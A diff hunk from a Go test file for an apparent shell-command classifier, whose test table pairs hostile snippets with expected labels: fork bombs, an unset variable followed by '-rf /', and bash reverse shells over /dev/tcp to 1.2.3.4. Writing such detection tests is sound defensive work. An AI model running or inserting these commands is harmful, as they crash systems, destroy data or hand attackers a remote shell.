@@ -184,7 +184,7 @@ func TestTraits(t *testing.T) {
 		{`:(){ :|:& };:`, umpire.ResourceBomb},
 		{`b() { b | b & }; b`, umpire.ResourceBomb},
 		{`while true; do other & done`, umpire.ResourceBomb},
-		{`$UNSET_ONE x`, umpire.UnseenCode},
+		{`$UNSET_ONE -rf /`, umpire.UnseenCode},
 		{`eval "$UNSET_ONE"`, umpire.UnseenCode},
 		{`sh=bash; exec 5<>/dev/tcp/1.2.3.4/9; bash -i <&5 >&5`, umpire.RemoteShell},
 		{`bash -i >& /dev/tcp/1.2.3.4/443 0>&1`, umpire.RemoteShell},
